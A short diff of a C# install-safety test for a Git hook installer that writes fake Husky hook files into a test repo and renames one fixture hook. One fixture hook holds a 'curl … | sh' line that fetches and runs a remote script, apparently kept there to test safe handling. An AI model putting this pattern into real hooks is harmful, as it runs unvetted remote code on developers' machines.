@@ -54,7 +54,7 @@ public class InstallSafetyTests : InstallFixture
         Repo.Write(".husky/pre-commit", "#!/bin/sh\n. \"$(dirname \"$0\")/_/husky.sh\"\n\n# run the tests\nnpm test\n");
         Repo.Write(".husky/post-merge", "#!/bin/sh\ncurl -s https://example.com/setup | sh\n");
         MakeExecutable(Repo.Path(".husky/post-merge"));
-        Repo.Write(".husky/post-rewrite", "#!/bin/sh\necho not executable, so git skips me\n");
+        Repo.Write(".husky/post-applypatch", "#!/bin/sh\necho not executable, so git skips me\n");
         Repo.Write(".husky/notes.txt", "not a hook\n");
 
         var result = HookInstaller.Install(Repo.Root, Hooks.Path, new InstallOptions(DryRun: true));
